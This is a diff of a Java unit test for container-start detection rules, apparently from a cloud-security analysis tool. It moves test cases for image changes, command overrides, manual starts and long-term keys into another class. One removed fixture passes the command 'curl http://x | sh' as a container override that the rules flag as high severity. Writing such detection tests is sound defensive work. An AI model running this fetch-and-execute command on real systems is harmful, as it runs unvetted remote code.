@@ -19,7 +19,6 @@ import org.ephemera.analyze.model.RuleBook;
 import org.ephemera.analyze.testing.FixtureCalls;
 import org.ephemera.analyze.testing.SealedFixture;
 import org.ephemera.bag.Trigger;
-import org.ephemera.evidence.Digest;
 import org.ephemera.testing.InMemory;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -27,9 +26,9 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.MethodSource;
 
 class StartupRulesTest {
-    private static final String OWNED =
-            "{\"metadata\":{\"namespace\":\"shop\",\"name\":\"web-1\",\"creationTimestamp\":"
-                    + "\"2026-11-26T11:00:00Z\",\"ownerReferences\":[{\"kind\":\"ReplicaSet\",\"name\":\"web\"}]},\"status\":";
+    static final String OWNED = "{\"metadata\":{\"namespace\":\"shop\",\"name\":\"web-1\",\"creationTimestamp\":"
+            + "\"2026-11-26T11:00:00Z\",\"ownerReferences\":[{\"kind\":\"ReplicaSet\",\"name\":\"web\"}]},\"status\":";
+
     private static final String OTHER = "arn:aws:sts::111122223333:assumed-role/web-deploy/ci";
     private static final String GROUP = "/subscriptions/s/resourceGroups/shop/providers/p/t/";
     private static final String RESTART = "containerGroups/restart/action";
@@ -47,18 +46,12 @@ class StartupRulesTest {
         }
     }
 
-    private static Case found(String name, String expected, Consumer<StartupStage> happened) {
+    static Case found(String name, String expected, Consumer<StartupStage> happened) {
         return new Case(name, happened, List.of(expected.split(", ", -1)));
     }
 
-    private static Case silent(String name, Consumer<StartupStage> happened) {
+    static Case silent(String name, Consumer<StartupStage> happened) {
         return new Case(name, happened, List.of());
-    }
-
-    private static String digest(String text) {
-        return "sha256:"
-                + Digest.of(text.getBytes(java.nio.charset.StandardCharsets.UTF_8))
-                        .hex();
     }
 
     private static void crashes(StartupStage stage, double... minutes) {
@@ -67,14 +60,14 @@ class StartupRulesTest {
         }
     }
 
-    private static ObjectNode overridden(StartupStage stage, String overrides) {
+    static ObjectNode overridden(StartupStage stage, String overrides) {
         stage.definition();
         ObjectNode task = stage.task(0);
         task.set("overrides", FixtureCalls.json(overrides));
         return task;
     }
 
-    private static String command(String value) {
+    static String command(String value) {
         return "{\"containerOverrides\":[{\"name\":\"app\",\"command\":[\"" + value + "\"]}]}";
     }
 
@@ -155,133 +148,6 @@ class StartupRulesTest {
         for (int i = 0; i < count; i++) {
             stage.stopped(i, i + minutes, "EssentialContainerExited", exit).put("group", "family:job");
         }
-    }
-
-    static Stream<Case> starts() {
-        return Stream.of(
-                found("another image without a deployment", "STA-003 medium", s -> {
-                    container(s.task(0)).put("imageDigest", digest("a"));
-                    container(s.task(90)).put("imageDigest", digest("b"));
-                }),
-                silent("another image after a deployment", s -> {
-                    container(s.task(0)).put("imageDigest", digest("a"));
-                    s.aws(80, OTHER, "ecs:UpdateService", "{}");
-                    container(s.task(90)).put("imageDigest", digest("b"));
-                }),
-                found("another image after another service's deployment", "STA-003 medium", s -> {
-                    container(s.task(0)).put("imageDigest", digest("a"));
-                    s.aws(80, OTHER, "ecs:UpdateService", "{\"service\":\"other\"}");
-                    container(s.task(90)).put("imageDigest", digest("b"));
-                }),
-                silent("another image of another revision", s -> {
-                    container(s.task(0)).put("imageDigest", digest("a"));
-                    container(s.task(90).put("taskDefinitionArn", "app:8")).put("imageDigest", digest("b"));
-                }),
-                silent("the same image again", s -> {
-                    container(s.task(0)).put("imageDigest", digest("a"));
-                    container(s.task(90)).put("imageDigest", digest("a"));
-                }),
-                found("a group pulls another image", "STA-003 medium", s -> pulls(s)),
-                silent("a group is written anew and pulls another image", s -> {
-                    s.azure(50, "deploy@shop.example", WRITE);
-                    pulls(s);
-                }),
-                found("another group is written anew", "STA-003 medium", s -> {
-                    s.azure(50, "deploy@shop.example", WRITE).put("resourceId", GROUP + "other");
-                    pulls(s);
-                }),
-                found("another command", "STA-004 high", s -> overridden(s, command("curl http://x | sh"))),
-                silent("the command of the definition", s -> overridden(s, command("serve"))),
-                silent(
-                        "names and sizes only",
-                        s -> overridden(
-                                s, "{\"containerOverrides\":[{\"name\":\"app\",\"cpu\":512}],\"cpu\":\"512\"}")),
-                found(
-                        "another variable",
-                        "STA-004 high",
-                        s -> overridden(
-                                s,
-                                "{\"containerOverrides\":[{\"name\":\"app\",\"environment\":[{\"name\":\"POOL\",\"value\":\"x\"}]}]}")),
-                silent(
-                        "the variable of the definition",
-                        s -> overridden(
-                                s,
-                                "{\"containerOverrides\":[{\"name\":\"app\",\"environment\":[{\"name\":\"MODE\",\"value\":\"fast\"}]}]}")),
-                silent(
-                        "GuardDuty's agent",
-                        s -> overridden(
-                                s,
-                                "{\"containerOverrides\":[{\"name\":\"aws-guardduty-agent-k7q2m\","
-                                        + "\"environment\":[{\"name\":\"REGION\",\"value\":\"x\"}]}]}")),
-                found(
-                        "another role",
-                        "STA-004 high",
-                        s -> overridden(s, "{\"taskRoleArn\":\"arn:aws:iam::111122223333:role/admin\"}")),
-                found(
-                        "a schedule's command",
-                        "STA-004 medium, STA-005 low",
-                        s -> overridden(s, command("report"))
-                                .put("startedBy", "events-rule/nightly")
-                                .put("group", "family:report")),
-                found("a call with a command, its task gone", "STA-004 high", s -> {
-                    s.task(0);
-                    s.aws(0, USER, "ecs:RunTask", "{\"overrides\":" + command("sh") + "}");
-                }),
-                silent("a call without overrides", s -> {
-                    s.task(0);
-                    s.aws(0, USER, "ecs:RunTask", "{\"overrides\":{\"containerOverrides\":[]}}");
-                }),
-                found(
-                        "by hand",
-                        "STA-005 medium",
-                        s -> s.task(0).put("startedBy", "me").put("group", "family:app")),
-                found(
-                        "by hand, and says it is of a service",
-                        "STA-005 medium",
-                        s -> s.task(0).put("startedBy", "me")),
-                found(
-                        "by a schedule",
-                        "STA-005 low",
-                        s -> s.task(0).put("startedBy", "chronos-schedule/x").put("group", "family:app")),
-                silent("by the service", s -> s.task(0)),
-                found(
-                        "a naked pod",
-                        "STA-005 medium",
-                        s -> s.pod("{\"metadata\":{\"namespace\":\"shop\",\"name\":\"x\"}}")),
-                silent("a pod of a ReplicaSet", s -> s.pod(OWNED + "{}}")),
-                silent(
-                        "a pod of its node",
-                        s -> s.pod("{\"metadata\":{\"namespace\":\"kube-system\",\"name\":\"x\","
-                                + "\"annotations\":{\"kubernetes.io/config.mirror\":\"1\"}}}")),
-                found("as large as can be", "STA-006 medium", s -> s.task(0).put("cpu", "16384")),
-                silent("half as large", s -> s.task(0).put("cpu", "8192")),
-                found("by a long-term key", "STA-006 medium", s -> {
-                    s.task(0);
-                    ((ObjectNode) s.aws(0, USER, "ecs:RunTask", "{}").path("userIdentity"))
-                            .put("accessKeyId", "AKIAEXAMPLE");
-                }),
-                silent("by a role", s -> {
-                    s.task(0);
-                    ((ObjectNode) s.aws(0, OTHER, "ecs:RunTask", "{}").path("userIdentity"))
-                            .put("accessKeyId", "ASIAEXAMPLE");
-                }),
-                found("by somebody new", "STA-006 medium", s -> {
-                    s.task(0);
-                    s.aws(-300, OTHER, "ecs:RunTask", "{}");
-                    s.aws(0, USER, "ecs:RunTask", "{}");
-                }),
-                silent("by whom it always was", s -> {
-                    s.task(0);
-                    s.aws(-300, OTHER, "ecs:RunTask", "{}");
-                    s.aws(0, OTHER, "ecs:RunTask", "{}");
-                }));
-    }
-
-    private static void pulls(StartupStage stage) {
-        ObjectNode view = stage.view("app", 1);
-        event(view, "Pulled", 0, 0, "Successfully pulled image \"r.azurecr.io/app@" + digest("a") + "\"");
-        event(view, "Pulled", 52, 52, "Successfully pulled image \"r.azurecr.io/app@" + digest("b") + "\"");
-        event(view, "Started", 1, 53, "started");
     }
 
     private static void status(ObjectNode entry, String status) {
@@ -381,7 +247,7 @@ class StartupRulesTest {
     }
 
     static Stream<Case> cases() {
-        return Stream.of(crashes(), starts(), ends()).flatMap(cases -> cases);
+        return Stream.of(crashes(), StartCases.cases(), ends()).flatMap(cases -> cases);
     }
 
     @ParameterizedTest
